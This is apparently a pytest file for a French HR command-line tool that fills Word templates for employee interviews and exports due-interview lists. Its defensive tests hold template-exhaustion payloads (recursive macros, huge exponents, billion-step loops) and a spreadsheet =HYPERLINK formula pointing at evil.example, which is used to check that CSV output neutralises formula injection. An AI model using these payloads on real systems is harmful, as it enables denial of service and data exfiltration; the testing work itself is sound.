"""The command line without LibreOffice: DOCX output, inspection, and the errors users get."""

import io
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from docx import Document
from docx_factory import make_docx

from parcours import resources
from parcours.cli import main

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = resources.SAMPLES


def invoke(*args):
    return CliRunner().invoke(main, [str(a) for a in args])


def test_generate_writes_the_filled_word_document(tmp_path):
    out = tmp_path / "convocation.docx"
    result = invoke("generate", "convocation", "--data", SAMPLES, "--matricule", "E0003",
                    "--valeurs", SAMPLES / "campagne.json", "--heure", "9:15", "--out", out)
    assert result.exit_code == 0, result.output
    text = "\n".join(p.text for p in Document(io.BytesIO(out.read_bytes())).paragraphs)
    assert "Monsieur Moussa N'Diaye" in text or "Moussa N'Diaye" in text
    assert "Lyon, le 14 décembre 2026" in text


def test_an_unknown_matricule_is_an_error_to_fix(tmp_path):
    result = invoke("generate", "convocation", "--data", SAMPLES, "--matricule", "E9999",
                    "--valeurs", SAMPLES / "campagne.json", "--out", tmp_path / "x.docx")
    assert result.exit_code == 2
    assert "Erreur" in result.output and "E9999" in result.output
    assert not (tmp_path / "x.docx").exists()


@pytest.mark.parametrize("payload", ["{% macro f(n) %}{{ f(n+1) }}{% endmacro %}{{ f(1) }}",
                                     "{{ 7**(10**8) }}", "{% for i in range(10**9) %}x{% endfor %}"])
def test_a_template_past_a_rendering_limit_is_a_french_error_without_traceback(tmp_path, payload):
    template = tmp_path / "piege.docx"
    template.write_bytes(make_docx("Bonjour", payload))
    result = invoke("generate", template, "--data", SAMPLES, "--matricule", "E0003",
                    "--valeurs", SAMPLES / "campagne.json", "--out", tmp_path / "x.docx")
    assert result.exit_code == 2 and isinstance(result.exception, (SystemExit, type(None)))
    assert "Erreur" in result.output and "limite dépassée" in result.output and "piege.docx" in result.output
    assert "Traceback" not in result.output and not (tmp_path / "x.docx").exists()


def test_bad_data_names_the_line_and_column_and_imports_nothing(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(SAMPLES, data)
    lines = (data / "employees.csv").read_text(encoding="utf-8").splitlines()
    lines[3] = lines[3].replace("1990-11-02", "1990-13-02")  # E0003, line 4 of the file
    (data / "employees.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = invoke("batch", "convocation", "--data", data, "--valeurs", SAMPLES / "campagne.json",
                    "--out", tmp_path / "out")
    assert result.exit_code == 2
    assert "ligne 4" in result.output and "date_naissance" in result.output
    assert not (tmp_path / "out").exists()


def test_a_wrong_interview_value_is_named(tmp_path):
    result = invoke("generate", "convocation", "--data", SAMPLES, "--matricule", "E0003",
                    "--valeurs", SAMPLES / "campagne.json", "--heure", "25:00", "--out", tmp_path / "x.docx")
    assert result.exit_code == 2
    assert "entretien.heure" in result.output and "25:00" in result.output


def test_without_campaign_values_the_user_is_told_what_to_give(tmp_path):
    result = invoke("generate", "convocation", "--data", SAMPLES, "--matricule", "E0003",
                    "--out", tmp_path / "x.docx")
    assert result.exit_code == 2
    assert "--valeurs" in result.output and "societe" in result.output


def test_inspect_flags_a_typo_with_the_text_around_it(tmp_path):
    template = tmp_path / "modele.docx"
    template.write_bytes(make_docx("Bonjour {{ salarie.prenom }} {{ salarie.non }}",
                                   "Votre entretien aura lieu le {{ entretien.date|date }"))
    result = invoke("inspect", template)
    assert result.exit_code == 1
    assert "Votre entretien aura lieu" in result.output
    fixed = tmp_path / "ok.docx"
    fixed.write_bytes(make_docx("Bonjour {{ salarie.prenom }} {{ salarie.non }}"))
    result = invoke("inspect", fixed)
    assert result.exit_code == 1 and "salarie.non  ← inconnue" in result.output
    assert "salarie.prenom\n" in result.output


def test_the_shipped_templates_use_only_known_fields():
    for name in ("convocation", "trame", "compte_rendu", "etat_des_lieux"):
        result = invoke("inspect", name)
        assert result.exit_code == 0, result.output


def test_due_prints_who_must_be_convoked():
    result = invoke("due", "--before", "2027-03-31", "--le", "2026-11-26", "--effectif", "120", "--data", SAMPLES)
    assert result.exit_code == 0, result.output
    assert "E0009" in result.output and "premier entretien" in result.output and "EN RETARD" in result.output
    assert "article L. 6315-1, I, du code du travail" in result.output
    assert "L6315-1" not in result.output
    # The abondement verdict of each état des lieux, with its reasons; no column is cut.
    assert "Abondement correctif : dû, 3\u202f000\u00a0€" in result.output
    assert "Abondement correctif : non dû" in result.output
    assert "…" not in result.output and "profess\n" not in result.output
    wrong = invoke("due", "--before", "2027-02-30")
    assert wrong.exit_code == 2 and "--before" in wrong.output


def test_due_seen_from_an_earlier_date_ignores_the_interviews_held_after_it():
    # Seen from 1 January 2024, the interviews the samples record as held later had not happened yet (E0004's of
    # 9 January 2024, say): they are left out, as the service leaves them out, not reported as errors.
    result = invoke("due", "--before", "2024-12-31", "--le", "2024-01-01", "--effectif", "120", "--data", SAMPLES,
                    "--json")
    assert result.exit_code == 0, result.output
    found = json.loads(result.stdout)
    assert found["erreurs"] == [] and "Erreur" not in result.output
    # E0004's last interview before that date was on 17 January 2022 (two years then): the next due by 2024-01-17.
    assert ("periodique", "2024-01-17") in {(i["type"], i["deadline"]) for i in found["entretiens"]
                                            if i["matricule"] == "E0004"}


def test_due_still_names_an_employee_whose_data_cannot_be_computed(tmp_path):
    employees = (SAMPLES / "employees.csv").read_text(encoding="utf-8").splitlines()
    # E0001 hired on 2012-09-03 with a last interview in 2010: impossible, the others are listed all the same.
    employees = [employees[0], employees[1].replace(",2023-02-10", ",2010-01-04"), *employees[2:]]
    (tmp_path / "employees.csv").write_text("\n".join(employees) + "\n", encoding="utf-8")
    result = invoke("due", "--before", "2027-03-31", "--le", "2026-11-26", "--data", tmp_path / "employees.csv",
                    "--json")
    assert result.exit_code == 1
    assert [line.split()[3] for line in result.output.splitlines() if line.startswith("Erreur : salarié ")] == ["E0001"]
    assert "E0001" not in {i["matricule"] for i in json.loads(result.stdout)["entretiens"]}


def test_due_as_json_and_csv_carry_the_abondement():
    import csv as csv_module
    import json

    result = invoke("due", "--before", "2045-12-31", "--le", "2026-11-26", "--effectif", "120", "--data", SAMPLES,
                    "--json")
    assert result.exit_code == 0, result.output
    items = json.loads(result.output)["entretiens"]
    reviews = [i for i in items if i["type"] == "etat_des_lieux"]
    assert reviews and all({"applicable", "entretiens_prevus", "entretiens_realises", "motif"} <= set(i["abondement"])
                           for i in reviews)
    assert all(ref["legiarti"].startswith("LEGIARTI") for i in items for ref in i["references"] if "legiarti" in ref)
    small = invoke("due", "--before", "2045-12-31", "--le", "2026-11-26", "--effectif", "49", "--data", SAMPLES,
                   "--format", "csv")
    rows = list(csv_module.DictReader(io.StringIO(small.output)))
    verdicts = {row["abondement"] for row in rows if row["type"] == "etat_des_lieux"}
    assert verdicts == {"non dû", "non dû (provisoire)"}  # 49 employees: never (L. 6315-1, II)
    assert all(row["libelle"] == row["libelle"].strip() and "…" not in row["libelle"] for row in rows)


HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Ici")'  # a matricule: 50 characters at most


def test_due_as_csv_neutralises_a_formula_in_an_employee_name(tmp_path):
    import csv as csv_module

    text = (SAMPLES / "employees.csv").read_text(encoding="utf-8")
    text = text.replace("E0009,M.,Girard,Théo,", f'E0009,M.,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@Théo,')
    (tmp_path / "employees.csv").write_text(text, encoding="utf-8")
    result = invoke("due", "--before", "2027-03-31", "--le", "2026-11-26", "--data", tmp_path, "--format", "csv")
    assert result.exit_code == 0, result.output

    rows = {row["matricule"]: row for row in csv_module.DictReader(io.StringIO(result.output))}
    assert (rows["E0009"]["nom"], rows["E0009"]["prenom"]) == ("'" + HYPERLINK, "'@Théo")


def test_the_batch_manifest_neutralises_a_formula_in_a_matricule(tmp_path):
    """The manifest of `parcours batch` and `demo` names employees by matricule: one that is a formula is text."""
    import csv as csv_module

    from docgen.dataset import load_dataset
    from docgen.values import load_values
    from parcours.cli.documents import run_batch

    class NoPool:  # every employee fails before conversion: LibreOffice is never asked
        size = 1

    text = (SAMPLES / "employees.csv").read_text(encoding="utf-8")
    text = text.replace("\nE0009,", "\n\"" + HYPERLINK.replace('"', '""') + "\",", 1)
    dataset = load_dataset(text.encode(), names={"employees": "employees.csv"}).dataset
    values = load_values({**values_json(), "salaries": {HYPERLINK: {"entretien": {"heure": "99:00"}}}})

    summary = run_batch((resources.DOCUMENTS / "convocation.docx").read_bytes(), "convocation.docx", dataset,
                        values, tmp_path / "out", matricules=[HYPERLINK], pool=NoPool())

    assert summary.failed == 1
    [row] = list(csv_module.DictReader(io.StringIO(summary.manifest.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert row["matricule"] == "'" + HYPERLINK and "entretien.heure" in row["erreur"]


def values_json():
    import json

    return json.loads((SAMPLES / "campagne.json").read_text(encoding="utf-8"))


def test_error_messages_name_only_the_options_the_command_has(tmp_path):
    bad = tmp_path / "employees.csv"
    bad.write_text((SAMPLES / "employees.csv").read_text(encoding="utf-8").replace("1975-03-14", "1975-13-14"),
                   encoding="utf-8")
    due = invoke("due", "--before", "2027-03-31", "--data", tmp_path)
    assert due.exit_code == 2 and "--ignorer-invalides" in due.output
    assert invoke("due", "--before", "2027-03-31", "--data", tmp_path, "--ignorer-invalides").exit_code == 0
    generate = invoke("generate", "convocation", "--data", tmp_path, "--matricule", "E0003", "--valeurs",
                      SAMPLES / "campagne.json", "--out", tmp_path / "x.docx")
    assert generate.exit_code == 2 and "--ignorer-invalides" not in generate.output


@pytest.mark.parametrize("url, said", [("postgresql+psycopg://nobody:secret@127.0.0.1:1/parcours", "nobody:***@127.0.0.1:1"),
                                       ("pas une adresse", "n'est pas une adresse de base de données")])
def test_a_database_that_does_not_open_is_an_error_to_fix_not_a_traceback(tmp_path, url, said):
    import subprocess
    import sys

    env = {"PATH": "/usr/bin:/bin", "PARCOURS_INSTANCE_DIR": str(tmp_path), "PARCOURS_DATABASE_URL": url}
    for command in (["init"], ["users", "list"]):
        done = subprocess.run([sys.executable, "-m", "parcours.cli", *command], capture_output=True, text=True,
                              env=env, timeout=120)
        assert done.returncode == 2, done.stderr
        assert done.stderr.startswith("Erreur : ") and said in done.stderr and "Traceback" not in done.stderr
        assert "secret" not in done.stderr and "DSA" not in done.stderr
